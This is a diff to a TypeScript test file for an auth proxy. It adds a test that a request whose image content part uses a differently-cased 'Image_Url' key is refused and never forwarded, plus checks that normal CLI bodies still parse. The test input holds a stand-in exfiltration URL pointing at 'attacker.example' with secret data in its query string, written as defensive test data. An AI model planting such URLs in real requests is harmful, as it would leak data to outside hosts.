@@ -11,6 +11,7 @@
  * APIs' lowercase (every API field is) is refused too, cap or not. Nothing reaches the provider.
  */
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'bun:test';
+import { offBodyReasons } from '../../../auth-proxy/usage/off-body-input.ts';
 import { parseBillableBody } from '../../../auth-proxy/usage/request-screen.ts';
 import { sidecarFor, type StandInVendor, startStandInVendor } from './sidecar-fixture.ts';
 
@@ -77,8 +78,21 @@ describe('keys a case-insensitive parser reads as the budget\'s', () => {
     }
   });
 
+  test('a content part naming an image URL in another case is refused, cap or not: such a parser would fetch it', async () => {
+    const sc = await sidecarFor('openai', vendor.port, {});
+    try {
+      const r = await post(sc.s.url, JSON.stringify({ model: 'gpt-5.4', input: [{ role: 'user', content: [{ type: 'input_image', Image_Url: 'https://attacker.example/exfil?data=secret' }] }] }));
+      expect({ status: r.status, forwarded }).toEqual({ status: 400, forwarded: 0 });
+      expect(r.text).toContain('peers_vendor_reach');
+    } finally {
+      await sc.close();
+    }
+  });
+
   test('what the CLIs send still parses: camelCase in schemas and tool inputs, one spelling per key', () => {
     const body = { model: 'claude-sonnet-4-5', max_tokens: 100, tools: [{ name: 'edit', input_schema: { type: 'object', properties: { filePath: { type: 'string' }, oldString: { type: 'string' } } } }], messages: [{ role: 'assistant', content: [{ type: 'tool_use', id: 't', name: 'edit', input: { filePath: 'a', URL: 'b' } }] }], metadata: { user_id: 'u' } };
     expect(parseBillableBody(JSON.stringify(body)).ok).toBe(true);
+    expect(offBodyReasons(body, 'anthropic')).toEqual({ reach: null, unbounded: null });
+    expect(offBodyReasons({ model: 'gpt-5.4', input: 'hi', metadata: { Team: 'a' } }, 'openai')).toEqual({ reach: null, unbounded: null });
   });
 });
